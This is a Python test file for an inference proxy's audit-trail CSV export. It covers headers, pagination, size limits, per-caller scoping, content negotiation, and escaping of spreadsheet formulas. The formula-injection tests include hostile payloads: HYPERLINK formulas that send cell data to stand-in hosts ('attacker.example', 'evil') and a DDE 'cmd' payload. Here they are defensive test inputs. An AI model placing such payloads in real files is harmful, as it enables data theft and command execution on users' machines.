"""The audit trail as CSV: what a spreadsheet and a parser make of it."""

import ast
import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from inference_proxy import audit, audit_query
from inference_proxy.operations.dashboard import COLUMNS
from inference_proxy.operations.dashboard_csv import wants_csv
from tests.contract.dashboard_records import ALICE, AUDITOR, WITH_AUDITOR, ask, ids, put, record
from tests.contract.router_bench import Answer, RouterBench

MORNING = datetime(2026, 11, 20, 8, tzinfo=UTC)
DAY = {"from": "2026-11-20", "to": "2026-11-21"}
INTERNAL = {"dayShard", "callerDayShard", "outcomeDayShard", "timeKey", "ttl"}
LAMBDAS_MOST_BYTES = 6 * 1024 * 1024


@pytest.fixture(autouse=True)
def patient(monkeypatch: pytest.MonkeyPatch) -> None:
    """A page is not cut short where the machine is busy."""
    monkeypatch.setattr(audit_query, "_READING_SECONDS", 25.0)


def export(bench: RouterBench, **query: str) -> tuple[Answer, list[dict[str, str]]]:
    answer = ask(bench, "/dashboard/requests", AUDITOR, "text/csv", **query)
    assert answer.status == 200, answer.text
    return answer, list(csv.DictReader(io.StringIO(answer.text, newline=""), strict=True))


@pytest.fixture
def audited(bench: RouterBench) -> RouterBench:
    bench.under(WITH_AUDITOR)
    return bench


def test_a_row_has_what_the_record_has(audited: RouterBench) -> None:
    numbers = {"clockSkewSeconds": -7, "inputTokens": 12, "latency": 0}
    known = put(audited, [record(1, MORNING, "DENIED", **numbers), record(2, MORNING, "STARTED")])
    answer, rows = export(audited, **DAY)
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="requests.csv"'
    assert "X-Next-Cursor" not in answer.headers
    assert answer.text.splitlines()[0] == ",".join(COLUMNS)
    assert answer.text.count("\r\n") == 3 == answer.text.count("\n")
    for row, each in zip(rows, known, strict=True):
        shown = {name: value for name, value in each.items() if name not in INTERNAL}
        written = {name: str(value).lower() if isinstance(value, bool) else str(value) for name, value in shown.items()}
        assert {name: text for name, text in row.items() if text} == written


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://attacker.example/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "  =1+1",
        "＝1+1",  # noqa: RUF001 - a wide sign, which spreadsheets take for the narrow one
    ],
)
def test_what_a_spreadsheet_would_calculate_is_text(audited: RouterBench, text: str) -> None:
    put(audited, [record(1, MORNING, userAgent=text)])
    _, rows = export(audited, **DAY)
    assert rows[0]["userAgent"] == f"'{text}"


def test_what_a_spreadsheet_with_other_separators_would_calculate_is_text(audited: RouterBench) -> None:
    """One that goes by semicolons or tabs begins a cell where this file does not."""
    guarded = {
        'bench/1.0;=HYPERLINK("http://evil/?"&A1,"x")': """bench/1.0;'=HYPERLINK("http://evil/?"&A1,"x")""",
        "a\t=1+1": "a\t'=1+1",
        "a, +1": "a,' +1",
        '"=1+1': """"'=1+1""",
        "\t=1+1": "'\t'=1+1",
        "\r=1+1": "'\r'=1+1",
        "\n=1+1": "'\n'=1+1",
        "a;\n@x": "a;\n'@x",
    }
    known = put(audited, [record(at, MORNING, userAgent=text) for at, text in enumerate(guarded)])
    answer, rows = export(audited, **DAY)
    assert [row["userAgent"] for row in rows] == [guarded[each["userAgent"]] for each in known]
    for separator in ";\t":
        cells = re.split(f"[{separator}\r\n]", answer.text)
        assert [cell for cell in cells if cell.lstrip(' "').startswith(("=", "+", "-", "@"))] == []


@pytest.mark.parametrize(
    "text",
    [
        'said "hello", twice',
        "two\nlines",
        "two\r\nlines",
        "a carriage\rreturn",
        "comma, semicolon; tab\there",
        "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101, like-this; a=b",
        "grün 漢字 \U0001f600 \u202e right to left",
        "a=b-c",
        "'quoted'",
        '"',
    ],
)
def test_any_other_text_comes_back_as_it_was(audited: RouterBench, text: str) -> None:
    put(audited, [record(1, MORNING, userAgent=text)])
    _, rows = export(audited, **DAY)
    assert rows[0]["userAgent"] == text
    assert len(rows) == 1


def test_an_export_goes_on_where_the_last_one_ended(audited: RouterBench) -> None:
    known = put(audited, [record(number, MORNING + timedelta(minutes=number)) for number in range(260)])
    answer, rows = export(audited, **DAY, limit="250")
    _, more = export(audited, **DAY, limit="1000", cursor=answer.headers["X-Next-Cursor"])
    assert [row["requestId"] for row in rows + more] == ids(known)
    assert (len(rows), len(more)) == (250, 10)
    too_many = ask(audited, "/dashboard/requests", AUDITOR, "text/csv", limit="1001")
    assert (too_many.status, too_many.headers["Content-Type"]) == (400, "application/json")
    assert "1 to 1000" in too_many.error["message"]


def test_what_does_not_fit_one_answer_is_left_to_the_next(audited: RouterBench) -> None:
    """Text of the widest kind in each attribute that a caller can choose."""
    chosen = ("userAgent", "modelId", "apiPath", "resolvedModelId", "marking")
    wide = dict.fromkeys(chosen, "\U0001f600" * 640)
    known = put(audited, [record(number, MORNING + timedelta(minutes=number), **wide) for number in range(90)])
    seen: list[str] = []
    cursor: dict[str, str] = {}
    while True:
        answer, rows = export(audited, **DAY, limit="1000", **cursor)
        assert len(json.dumps(answer.text)) < LAMBDAS_MOST_BYTES
        seen += [row["requestId"] for row in rows]
        if "X-Next-Cursor" not in answer.headers:
            break
        assert rows
        cursor = {"cursor": answer.headers["X-Next-Cursor"]}
    assert seen == ids(known)
    assert cursor


def test_callers_export_their_own_rows(audited: RouterBench) -> None:
    put(audited, [record(1, MORNING, caller=ALICE), record(2, MORNING, caller=AUDITOR)])
    answer = ask(audited, "/dashboard/requests", ALICE, "text/csv", **DAY)
    assert "record-00001" in answer.text
    assert "record-00002" not in answer.text


@pytest.mark.parametrize(
    ("accept", "as_csv"),
    [
        ("text/csv", True),
        ("Text/CSV; charset=utf-8", True),
        ("text/csv, application/json", True),
        ("text/csv, */*;q=0.1", True),
        ("text/*", True),
        ("application/json, text/csv;q=0.5", False),
        ("text/csv;q=0.5, */*", False),
        ("text/csv;q=0", False),
        ("text/csv;q=much", False),
        ("application/json", False),
        ("*/*", False),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", False),
        ("", False),
    ],
)
def test_csv_is_for_those_who_ask_for_it(accept: str, as_csv: bool) -> None:
    assert wants_csv({"accept": accept}) is as_csv


def test_without_an_accept_header_the_answer_is_json(audited: RouterBench) -> None:
    assert wants_csv({}) is False
    assert audited.call("GET", "/dashboard/requests").headers["Content-Type"] == "application/json"


def attributes_of_a_record() -> set[str]:
    """Every attribute that audit.py writes, by its source."""
    names: set[str] = set()
    for node in ast.walk(ast.parse(Path(audit.__file__).read_text())):
        if isinstance(node, (ast.Assign, ast.AnnAssign)) and isinstance(node.value, ast.Dict):
            target: Any = node.targets[0] if isinstance(node, ast.Assign) else node.target
            if getattr(target, "id", "") in ("fields", "outcome"):
                names |= {str(key.value) for key in node.value.keys if isinstance(key, ast.Constant)}
    return names


def test_every_attribute_of_a_record_has_its_column(audited: RouterBench) -> None:
    written = attributes_of_a_record()
    assert {"requestId", "latency", "closedAt", "errorCode", "userAgent"} <= written
    assert written - INTERNAL <= set(COLUMNS)
    audited.invoke()
    assert {name for each in audited.records() for name in each} - INTERNAL <= set(COLUMNS)
    assert len(set(COLUMNS)) == len(COLUMNS)
